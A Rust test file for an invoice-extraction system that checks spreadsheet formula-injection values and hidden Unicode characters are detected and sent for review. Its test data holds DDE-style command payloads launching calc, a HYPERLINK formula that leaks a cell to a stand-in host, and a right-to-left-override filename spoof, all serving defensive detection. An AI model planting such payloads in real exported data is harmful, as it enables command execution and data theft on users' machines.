//! Values that are written to mislead: formulas for spreadsheets, characters that nobody sees.

use fieldmark_domain::check::Check;
use fieldmark_domain::extraction::Decision;
use fieldmark_domain::field::Field;
use fieldmark_domain::hidden::is_hidden;
use fieldmark_domain::label::Label;
use fieldmark_domain::reading::Reading;

use crate::electronic_invoice::{page, read, stating};
use crate::sketch::{Sketch, value};

#[expect(clippy::panic, reason = "a test that finds no label should fail")]
fn label(reading: &Reading, field: Field) -> Label {
    let found = reading.labels.iter().find(|label| label.field == field);
    found.cloned().unwrap_or_else(|| panic!("no {field}"))
}

fn failed(reading: &Reading, field: Field) -> Vec<Check> {
    label(reading, field).checks.into_iter().filter(|check| !check.passed).collect()
}

#[track_caller]
fn is_to_be_reviewed_for(reading: &Reading, field: Field, check: &str) {
    let names: Vec<_> = failed(reading, field).into_iter().map(|failed| failed.name).collect();
    assert_eq!(names, [check], "{reading:?}");
    let reason = format!("{field}: {check} fails");
    assert!(reading.decision.reasons().contains(&reason), "{:?}", reading.decision);
}

#[test]
fn a_formula_in_an_e_invoice_is_kept_and_said() {
    for (field, formula) in [
        (Field::SupplierName, "=HYPERLINK(\"http://a.example/?\"&A1;\"Invoice\")"),
        (Field::InvoiceNumber, "@SUM(1+1)*cmd|' /C calc'!A0"),
        (Field::InvoiceNumber, "＝1+1"),
    ] {
        let reading = read(Sketch::default(), stating(field, formula));
        assert_eq!(value(&reading, field), formula);
        is_to_be_reviewed_for(&reading, field, "not_a_formula");
    }
}

#[test]
fn a_formula_on_a_page_is_kept_and_said() {
    let reading = Sketch::default()
        .value(40.0, 40.0, "=HYPERLINK(\"http://a.example\") AB", Field::SupplierName, 0.95)
        .caption(300.0, 40.0, "Fakturanr", Field::InvoiceNumber)
        .value(400.0, 40.0, "+cmd|'/C_calc'!A0", Field::InvoiceNumber, 0.97)
        .read();
    is_to_be_reviewed_for(&reading, Field::SupplierName, "not_a_formula");
    is_to_be_reviewed_for(&reading, Field::InvoiceNumber, "not_a_formula");
}

#[test]
fn a_number_or_name_with_a_sign_before_it_is_for_a_person() {
    for (field, text) in [
        (Field::InvoiceNumber, "-1+1"),
        (Field::InvoiceNumber, "+S7"),
        (Field::SupplierName, "@Home AB"),
        (Field::SupplierName, "\u{2212}Home AB"),
    ] {
        let reading = read(Sketch::default(), stating(field, text));
        assert_eq!(value(&reading, field), text);
        is_to_be_reviewed_for(&reading, field, "not_a_formula");
    }
}

#[test]
fn hidden_characters_leave_values_and_are_said() {
    let reading =
        read(Sketch::default(), stating(Field::SupplierName, "Ekdalens \u{202e}BA rekcinS\u{202c}"));
    assert_eq!(value(&reading, Field::SupplierName), "Ekdalens BA rekcinS");
    is_to_be_reviewed_for(&reading, Field::SupplierName, "no_hidden_characters");
    let detail = failed(&reading, Field::SupplierName)[0].detail.clone();
    assert_eq!(detail.as_deref(), Some("left out: U+202E U+202C"));
    assert!(!label(&reading, Field::SupplierName).raw.contains(is_hidden));
    // Amounts are read in spite of them.
    let reading = read(Sketch::default(), stating(Field::TotalGross, "12\u{200b}50.00"));
    assert_eq!(value(&reading, Field::TotalGross), "1250.00");
    is_to_be_reviewed_for(&reading, Field::TotalGross, "no_hidden_characters");
}

#[test]
fn hidden_characters_leave_descriptions_and_messages() {
    let mut invoice = stating(Field::InvoiceDate, "\u{202e}soon");
    invoice.attachment = Some("fak\u{202e}lmx.pdf".to_owned());
    invoice.lines[0].description = Some("Snick\u{2066}eri".to_owned());
    let reading = read(Sketch::default(), invoice);
    let shown = format!("{reading:?}");
    assert!(!shown.contains("\\u{202e}") && !shown.contains("\\u{2066}"), "{shown}");
    assert!(shown.contains("Snickeri") && shown.contains("faklmx.pdf"), "{shown}");
}

#[test]
fn marks_that_say_nothing_fail_no_check() {
    let stated = stating(Field::SupplierName, "\u{feff}Ekdalens Snick\u{ad}eri Aktiebolag\u{200b}");
    let reading = read(page(), stated);
    assert_eq!(value(&reading, Field::SupplierName), "Ekdalens Snickeri Aktiebolag");
    assert_eq!(reading.decision, Decision::Accept);
}
